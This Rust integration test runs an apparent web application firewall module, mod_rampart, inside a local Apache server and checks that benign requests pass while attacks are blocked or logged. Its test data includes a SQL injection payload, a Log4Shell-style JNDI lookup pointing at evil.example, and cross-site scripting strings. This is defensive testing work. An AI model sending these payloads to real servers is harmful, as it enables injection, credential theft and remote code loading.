//! mod_rampart in a real Debian Apache httpd 2.4: the module is built with
//! adapters/apache/build.sh (apxs) from the static library of this test
//! run, loaded with LoadModule into apache2 (mpm_event, several child
//! processes) started on 127.0.0.1 with a configuration of its own, in
//! front of an echo backend (hyper) through mod_proxy_http.
//!
//! Without apache2 or apxs the test prints a notice and passes, unless
//! RAMPART_REQUIRE_SERVERS=1 (CI), where it fails.

#![allow(clippy::panic)] // test helpers: a failed exchange is a test failure

mod common;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use http_body_util::{BodyExt, Full};
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};

const APACHE_MODULES: &str = "/usr/lib/apache2/modules";

/// Debian's apache2 (`RAMPART_APACHE_BIN` overrides); not always on PATH.
fn apache_bin() -> String {
    std::env::var("RAMPART_APACHE_BIN").unwrap_or_else(|_| {
        if Path::new("/usr/sbin/apache2").is_file() {
            "/usr/sbin/apache2".into()
        } else {
            "apache2".into()
        }
    })
}

/// What the backend received.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    target: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

impl Seen {
    fn header(&self, name: &str) -> Option<&[u8]> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_slice())
    }
}

/// The echo backend: records each request and answers 200 with the body
/// it received.
struct Backend {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    _rt: tokio::runtime::Runtime,
}

impl Backend {
    fn start() -> Backend {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("runtime");
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let listener = rt
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .expect("bind the backend");
        let addr = listener.local_addr().expect("addr");
        let log = seen.clone();
        rt.spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                let log = log.clone();
                tokio::spawn(async move {
                    let svc = service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
                        let log = log.clone();
                        async move {
                            let (parts, body) = req.into_parts();
                            let body = body
                                .collect()
                                .await
                                .map(|b| b.to_bytes())
                                .unwrap_or_default();
                            let s = Seen {
                                method: parts.method.to_string(),
                                target: parts.uri.to_string(),
                                headers: parts
                                    .headers
                                    .iter()
                                    .map(|(n, v)| (n.as_str().to_string(), v.as_bytes().to_vec()))
                                    .collect(),
                                body: body.to_vec(),
                            };
                            log.lock().expect("lock").push(s);
                            let resp = hyper::Response::builder()
                                .status(200)
                                .header("x-echo", "1")
                                .body(Full::new(body))
                                .expect("response");
                            Ok::<_, std::convert::Infallible>(resp)
                        }
                    });
                    let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                        .serve_connection(TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
        Backend {
            addr,
            seen,
            _rt: rt,
        }
    }

    fn take(&self) -> Vec<Seen> {
        std::mem::take(&mut *self.seen.lock().expect("lock"))
    }
}

/// A response as read off the wire.
#[derive(Debug)]
struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Resp {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// Asserts two byte strings are equal, reporting lengths and the first
/// difference rather than both strings.
#[track_caller]
fn same(got: &[u8], want: &[u8], what: &str) {
    if got == want {
        return;
    }
    let at = got
        .iter()
        .zip(want)
        .position(|(a, b)| a != b)
        .unwrap_or(got.len().min(want.len()));
    let show = |b: &[u8]| {
        String::from_utf8_lossy(&b[at.min(b.len())..(at + 60).min(b.len())]).into_owned()
    };
    panic!(
        "{what}: {} bytes, expected {}; first difference at {at}: {:?} vs {:?}",
        got.len(),
        want.len(),
        show(got),
        show(want)
    );
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

fn dechunk(mut b: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(eol) = find(b, b"\r\n") {
        let size_text = String::from_utf8_lossy(&b[..eol]);
        let size = usize::from_str_radix(size_text.split(';').next().unwrap_or("").trim(), 16)
            .unwrap_or(0);
        b = &b[eol + 2..];
        if size == 0 || b.len() < size {
            break;
        }
        out.extend_from_slice(&b[..size]);
        b = &b[(size + 2).min(b.len())..];
    }
    out
}

/// Sends raw request bytes (the request says `Connection: close`) and
/// reads the whole response.
fn exchange(port: u16, raw: &[u8]) -> Resp {
    let mut s = TcpStream::connect(("127.0.0.1", port)).expect("connect to apache");
    s.set_read_timeout(Some(Duration::from_secs(60)))
        .expect("timeout");
    s.set_write_timeout(Some(Duration::from_secs(60)))
        .expect("timeout");
    // A refused body may be cut short by the server: the response counts.
    let _ = s.write_all(raw);
    // Read until the server closes, at most 64 MiB.
    let mut buf = Vec::new();
    let mut chunk = [0u8; 65536];
    while buf.len() < 64 << 20 {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let head_end = find(&buf, b"\r\n\r\n")
        .unwrap_or_else(|| panic!("no response head: {:?}", String::from_utf8_lossy(&buf)));
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    let mut lines = head.split("\r\n");
    let status = lines
        .next()
        .and_then(|l| l.split(' ').nth(1))
        .and_then(|c| c.parse().ok())
        .expect("status line");
    let headers: Vec<(String, String)> = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(n, v)| (n.trim().to_string(), v.trim().to_string()))
        .collect();
    let raw_body = &buf[head_end + 4..];
    let chunked = headers
        .iter()
        .any(|(n, v)| n.eq_ignore_ascii_case("transfer-encoding") && v.contains("chunked"));
    let body = if chunked {
        dechunk(raw_body)
    } else {
        raw_body.to_vec()
    };
    Resp {
        status,
        headers,
        body,
    }
}

fn request(port: u16, method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Resp {
    let mut raw =
        format!("{method} {target} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n");
    for (n, v) in headers {
        raw.push_str(&format!("{n}: {v}\r\n"));
    }
    if !body.is_empty() || method == "POST" {
        raw.push_str(&format!("Content-Length: {}\r\n", body.len()));
    }
    raw.push_str("\r\n");
    let mut raw = raw.into_bytes();
    raw.extend_from_slice(body);
    exchange(port, &raw)
}

fn get(port: u16, target: &str) -> Resp {
    request(port, "GET", target, &[], b"")
}

fn chunked_post(port: u16, target: &str, ctype: &str, body: &[u8], chunk: usize) -> Resp {
    let mut raw = format!(
        "POST {target} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nContent-Type: {ctype}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    .into_bytes();
    for c in body.chunks(chunk) {
        raw.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
        raw.extend_from_slice(c);
        raw.extend_from_slice(b"\r\n");
    }
    raw.extend_from_slice(b"0\r\n\r\n");
    exchange(port, &raw)
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}

/// The apache2 parent process, stopped (SIGTERM, then waited for) on drop.
struct Apache {
    child: Child,
    dir: PathBuf,
}

impl Apache {
    fn error_log(&self) -> String {
        std::fs::read_to_string(self.dir.join("error.log")).unwrap_or_default()
    }
}

impl Drop for Apache {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .arg("-TERM")
            .arg(self.child.id().to_string())
            .status();
        let _ = self.child.wait();
    }
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
        .unwrap_or(false)
}

/// A world-readable scratch folder in /tmp: the children run as www-data
/// when the test runs as root, and must read node.toml and write the log.
fn apache_dir(name: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let d = std::env::temp_dir().join(format!("rampart-apache-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("dir");
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    d
}

fn writable_file(p: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(p, b"").expect("create");
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o666)).expect("chmod");
}

struct Ports {
    block: u16,
    monitor: u16,
    strict: u16,
}

fn httpd_conf(dir: &Path, module: &Path, backend: SocketAddr, p: &Ports) -> String {
    let m = APACHE_MODULES;
    let d = dir.display();
    let user = if is_root() {
        "User www-data\nGroup www-data\n"
    } else {
        ""
    };
    format!(
        r#"ServerRoot "{d}"
ServerName 127.0.0.1
PidFile "{d}/httpd.pid"
DefaultRuntimeDir "{d}"
Mutex file:{d} default
ErrorLog "{d}/error.log"
LogLevel warn rampart:info
{user}
LoadModule mpm_event_module {m}/mod_mpm_event.so
LoadModule authz_core_module {m}/mod_authz_core.so
LoadModule proxy_module {m}/mod_proxy.so
LoadModule proxy_http_module {m}/mod_proxy_http.so
LoadModule rewrite_module {m}/mod_rewrite.so
LoadModule rampart_module {module}

StartServers 2
ServerLimit 2
ThreadsPerChild 8
MaxRequestWorkers 16
MinSpareThreads 1
MaxSpareThreads 16
KeepAlive Off

LogFormat "%h \"%r\" %>s %{{RAMPART_ACTION}}e %{{RAMPART_REQUEST_ID}}e" rampart
CustomLog "{d}/access.log" rampart

RampartConfig "{d}/node.toml"

Listen 127.0.0.1:{block}
Listen 127.0.0.1:{monitor}
Listen 127.0.0.1:{strict}

<VirtualHost 127.0.0.1:{block}>
    Rampart On
    AllowEncodedSlashes NoDecode
    ProxyPreserveHost On
    ProxyPass / http://{backend}/ nocanon
    <Location /public>
        Rampart Off
    </Location>
    <Location /small>
        RampartBodyLimit 1024
    </Location>
    <Location /watched>
        RampartMode monitor
    </Location>
    # A per-directory rewrite is an internal redirect: the new request
    # (proxied to the backend) must still get the whole body.
    <Location /rewritten>
        RewriteEngine On
        RewriteRule ^ /api/after-rewrite
    </Location>
</VirtualHost>

<VirtualHost 127.0.0.1:{monitor}>
    Rampart On
    RampartMode monitor
    AllowEncodedSlashes NoDecode
    ProxyPreserveHost On
    ProxyPass / http://{backend}/ nocanon
</VirtualHost>

<VirtualHost 127.0.0.1:{strict}>
    RampartConfig "{d}/strict.toml"
    Rampart On
    ProxyPreserveHost On
    ProxyPass / http://{backend}/ nocanon
</VirtualHost>
"#,
        module = module.display(),
        block = p.block,
        monitor = p.monitor,
        strict = p.strict,
    )
}

fn start_apache(dir: &Path, ports: &[u16]) -> Apache {
    let child = Command::new(apache_bin())
        .arg("-d")
        .arg(dir)
        .arg("-f")
        .arg(dir.join("httpd.conf"))
        .arg("-DFOREGROUND")
        .env_remove("APACHE_CONFDIR")
        .stdin(Stdio::null())
        .spawn()
        .expect("start apache2");
    let apache = Apache {
        child,
        dir: dir.to_path_buf(),
    };
    // Wait (bounded) until every port accepts; not a timing assertion.
    let deadline = Instant::now() + Duration::from_secs(60);
    for &port in ports {
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                Instant::now() < deadline,
                "apache2 did not listen on {port}:\n{}",
                apache.error_log()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    apache
}

/// Builds mod_rampart with build.sh against this run's static library.
fn build_module(out: &Path) -> PathBuf {
    let script = common::repo_root().join("adapters/apache/build.sh");
    let o = Command::new("bash")
        .arg(&script)
        .arg("--lib")
        .arg(common::staticlib())
        .arg("--out")
        .arg(out)
        .output()
        .expect("run build.sh");
    assert!(
        o.status.success(),
        "build.sh failed:\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let stdout = String::from_utf8_lossy(&o.stdout);
    let so = PathBuf::from(
        stdout
            .lines()
            .last()
            .expect("build.sh prints the module")
            .trim(),
    );
    assert!(so.is_file(), "{}", so.display());
    so
}

fn have_apache() -> bool {
    let apache = common::have(&apache_bin(), &["-v"]);
    let apxs = common::have("apxs", &["-q", "CC"]);
    if apache && apxs {
        return true;
    }
    let msg = "apache2 and apxs are needed (Debian: apt-get install apache2 apache2-dev)";
    assert!(
        !common::servers_required(),
        "RAMPART_REQUIRE_SERVERS=1: {msg}"
    );
    eprintln!("SKIP mod_rampart test: {msg}");
    false
}

const SQLI: &str = "/search?q=1'%20union%20select%20password%20from%20users--";

#[test]
fn mod_rampart_in_a_real_apache() {
    if !have_apache() {
        return;
    }
    let dir = apache_dir("run");
    let module = build_module(&dir.join("build"));
    let backend = Backend::start();
    let log = dir.join("rampart.log");
    writable_file(&log);
    std::fs::write(
        dir.join("node.toml"),
        format!(
            "mode = \"block\"\nlog_format = \"json\"\nlog_file = {:?}\n[inspection]\nbody_limit = 65536\nover_limit = \"inspect-prefix\"\n",
            log.display().to_string()
        ),
    )
    .expect("node.toml");
    std::fs::write(
        dir.join("strict.toml"),
        "mode = \"block\"\n[inspection]\nbody_limit = 65536\nover_limit = \"block\"\n[telemetry]\nenabled = false\n",
    )
    .expect("strict.toml");
    let ports = Ports {
        block: free_port(),
        monitor: free_port(),
        strict: free_port(),
    };
    std::fs::write(
        dir.join("httpd.conf"),
        httpd_conf(&dir, &module, backend.addr, &ports),
    )
    .expect("httpd.conf");
    let apache = start_apache(&dir, &[ports.block, ports.monitor, ports.strict]);
    let p = ports.block;

    // Benign GET: passes, the backend sees the same method and target.
    let target = "/search?q=red+running+shoes&page=2&tag=%2Fsale%2F&x=a%20b";
    let r = get(p, target);
    assert_eq!(r.status, 200, "{}\n{}", r.text(), apache.error_log());
    let seen = backend.take();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].method, "GET");
    assert_eq!(seen[0].target, target);
    assert_eq!(seen[0].header("host"), Some(&b"shop.example"[..]));

    // Benign POST bodies pass byte-identical: a JSON body read in several
    // brigades, a chunked one, and one over the body limit (inspect-prefix:
    // the first 64 KiB inspected, the rest streamed).
    let mut json = b"{\"items\":[".to_vec();
    for i in 0..1500 {
        json.extend_from_slice(format!("{{\"sku\":\"A-{i}\",\"qty\":{}}},", i % 7).as_bytes());
    }
    json.extend_from_slice(b"{\"sku\":\"end\",\"qty\":1}]}");
    assert!(json.len() > 30_000 && json.len() < 65_536, "{}", json.len());
    let r = request(
        p,
        "POST",
        "/api/cart?v=1",
        &[("Content-Type", "application/json")],
        &json,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    same(&r.body, &json, "echoed body");
    let seen = backend.take();
    assert_eq!(
        (seen[0].method.as_str(), seen[0].target.as_str()),
        ("POST", "/api/cart?v=1")
    );
    same(&seen[0].body, &json, "the body the backend got");

    let r = chunked_post(p, "/api/cart", "application/json", &json, 7000);
    assert_eq!(r.status, 200, "{}", r.text());
    same(&backend.take()[0].body, &json, "chunked body");

    let big: Vec<u8> = (0..300_000u32)
        .map(|i| b"abcdefghijklmnopqrstuvwxyz0123456789 \n"[(i % 38) as usize])
        .collect();
    let r = request(
        p,
        "POST",
        "/upload",
        &[("Content-Type", "text/plain")],
        &big,
    );
    assert_eq!(r.status, 200, "{}", r.text());
    same(&backend.take()[0].body, &big, "a body over the limit");
    let r = chunked_post(p, "/upload", "text/plain", &big, 10_000);
    assert_eq!(r.status, 200, "{}", r.text());
    same(
        &backend.take()[0].body,
        &big,
        "a chunked body over the limit",
    );

    // An internal redirect (mod_rewrite in a <Location>) after the body was
    // read: the redirected request still forwards the whole body.
    let r = request(
        p,
        "POST",
        "/rewritten/x",
        &[("Content-Type", "application/json")],
        &json,
    );
    assert_eq!(r.status, 200, "{}\n{}", r.text(), apache.error_log());
    let seen = backend.take();
    assert_eq!(seen[0].target, "/api/after-rewrite");
    same(&seen[0].body, &json, "the body after an internal redirect");
    let r = chunked_post(p, "/rewritten/y", "text/plain", &big, 10_000);
    assert_eq!(r.status, 200, "{}", r.text());
    same(
        &backend.take()[0].body,
        &big,
        "a body over the limit after an internal redirect",
    );

    // Attacks in the query, a header, a form body, a JSON body: 403 with
    // the block page, and the backend never sees them.
    let r = get(p, SQLI);
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.header("content-type"), Some("application/json"));
    let id = r
        .header("x-request-id")
        .expect("X-Request-Id on the block page")
        .to_string();
    assert!(
        r.text().contains("\"blocked\"") && r.text().contains(&id),
        "{}",
        r.text()
    );
    let r = request(
        p,
        "GET",
        "/",
        &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
        b"",
    );
    assert_eq!(r.status, 403, "header attack: {}", r.text());
    let r = request(
        p,
        "POST",
        "/login",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        b"user=admin&pass=1'%20union%20select%20password%20from%20users--",
    );
    assert_eq!(r.status, 403, "form attack: {}", r.text());
    let r = request(
        p,
        "POST",
        "/api/search",
        &[("Content-Type", "application/json")],
        b"{\"q\":\"<script>alert(document.cookie)</script>\"}",
    );
    assert_eq!(r.status, 403, "JSON attack: {}", r.text());
    let r = chunked_post(
        p,
        "/login",
        "application/x-www-form-urlencoded",
        b"user=admin&pass=1'%20union%20select%20password%20from%20users--",
        9,
    );
    assert_eq!(r.status, 403, "chunked form attack: {}", r.text());
    let r = request(
        p,
        "GET",
        "/?q=<script>alert(1)</script>",
        &[("Accept", "text/html")],
        b"",
    );
    assert_eq!(r.status, 403);
    assert!(
        r.header("content-type")
            .is_some_and(|c| c.starts_with("text/html")),
        "{r:?}"
    );
    let r = request(p, "HEAD", SQLI, &[], b"");
    assert_eq!(r.status, 403);
    assert!(r.body.is_empty(), "HEAD got a body");
    assert!(backend.take().is_empty(), "an attack reached the backend");

    // Per-location switches: Rampart Off, RampartMode monitor, and a
    // RampartBodyLimit below the attack's offset (inspect-prefix).
    assert_eq!(get(p, &format!("/public{SQLI}")).status, 200);
    assert_eq!(get(p, &format!("/watched{SQLI}")).status, 200);
    let mut padded = b"pad=".to_vec();
    padded.extend(std::iter::repeat_n(b'a', 2000));
    padded.extend_from_slice(b"&q=1'%20union%20select%20password%20from%20users--");
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    assert_eq!(
        request(p, "POST", "/small/form", &form, &padded).status,
        200
    );
    assert_eq!(
        request(p, "POST", "/other/form", &form, &padded).status,
        403
    );
    let seen = backend.take();
    assert_eq!(seen.len(), 3, "{seen:?}");
    same(&seen[2].body, &padded, "padded form");

    // The monitor site passes the same attacks and logs them.
    let m = ports.monitor;
    let r = get(m, SQLI);
    assert_eq!(r.status, 200, "{}", r.text());
    let r = request(
        m,
        "POST",
        "/login",
        &form,
        b"user=admin&pass=1'%20union%20select%20password%20from%20users--",
    );
    assert_eq!(r.status, 200);
    same(
        &r.body,
        b"user=admin&pass=1'%20union%20select%20password%20from%20users--",
        "monitor echo",
    );
    assert_eq!(backend.take().len(), 2);

    // over_limit = "block" (the strict site, a second guard): 413 by
    // declared length before the body is sent, and for a chunked body
    // found too long while reading; a body within the limit passes.
    let s = ports.strict;
    let r = exchange(
        s,
        b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n",
    );
    assert_eq!(r.status, 413, "{}", r.text());
    assert!(r.text().contains("body_too_large"), "{}", r.text());
    let r = chunked_post(s, "/upload", "text/plain", &big[..100_000], 8192);
    assert_eq!(r.status, 413, "{}", r.text());
    let r = request(
        s,
        "POST",
        "/upload",
        &[("Content-Type", "text/plain")],
        &big[..60_000],
    );
    assert_eq!(r.status, 200);
    assert_eq!(backend.take().len(), 1);

    // The verdicts are in node.toml's log, as JSON lines.
    let text = std::fs::read_to_string(&log).expect("rampart.log");
    assert!(
        text.lines().any(|l| l.contains("\"request blocked\"")
            && l.contains("\"adapter\":\"apache\"")
            && l.contains("\"path\":\"/search\"")),
        "{text}"
    );
    assert!(
        text.lines()
            .any(|l| l.contains("\"action\":\"monitor\"") && l.contains("\"path\":\"/login\"")),
        "{text}"
    );
    assert!(
        text.contains(&id),
        "the block page's request id is not in the log"
    );
    let access = std::fs::read_to_string(dir.join("access.log")).unwrap_or_default();
    assert!(access.contains(&format!("403 block {id}")), "{access}");

    let errors = apache.error_log();
    assert!(errors.contains("rampart: guard started"), "{errors}");
    assert!(!errors.contains("panicked"), "{errors}");
    drop(apache);
    let errors = std::fs::read_to_string(dir.join("error.log")).unwrap_or_default();
    assert!(!errors.contains("exit signal Segmentation"), "{errors}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn apache_refuses_to_start_on_a_bad_node_toml() {
    if !have_apache() {
        return;
    }
    let dir = apache_dir("bad");
    let module = build_module(&dir.join("build"));
    std::fs::write(dir.join("node.toml"), "mode = \"sideways\"\n").expect("write");
    let port = free_port();
    let d = dir.display();
    let m = APACHE_MODULES;
    std::fs::write(
        dir.join("httpd.conf"),
        format!(
            "ServerRoot \"{d}\"\nServerName 127.0.0.1\nPidFile \"{d}/httpd.pid\"\nDefaultRuntimeDir \"{d}\"\nMutex file:{d} default\nErrorLog \"{d}/error.log\"\nLoadModule mpm_event_module {m}/mod_mpm_event.so\nLoadModule authz_core_module {m}/mod_authz_core.so\nLoadModule rampart_module {}\nListen 127.0.0.1:{port}\nRampartConfig \"{d}/node.toml\"\nRampart On\n",
            module.display()
        ),
    )
    .expect("httpd.conf");
    // post_config (not run by `apache2 -t`) checks node.toml in the
    // master: the server must stop at start with the reason.
    let mut child = Command::new(apache_bin())
        .arg("-d")
        .arg(&dir)
        .arg("-f")
        .arg(dir.join("httpd.conf"))
        .arg("-DFOREGROUND")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("apache2");
    let deadline = Instant::now() + Duration::from_secs(60);
    while child.try_wait().expect("wait").is_none() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    if child.try_wait().expect("wait").is_none() {
        let _ = Command::new("kill")
            .arg("-TERM")
            .arg(child.id().to_string())
            .status();
    }
    let o = child.wait_with_output().expect("apache2 output");
    let out = format!(
        "{}{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr),
        std::fs::read_to_string(dir.join("error.log")).unwrap_or_default()
    );
    assert!(
        !o.status.success(),
        "apache2 started on a bad node.toml: {out}"
    );
    assert!(out.contains("sideways"), "{out}");
    let _ = std::fs::remove_dir_all(&dir);
}
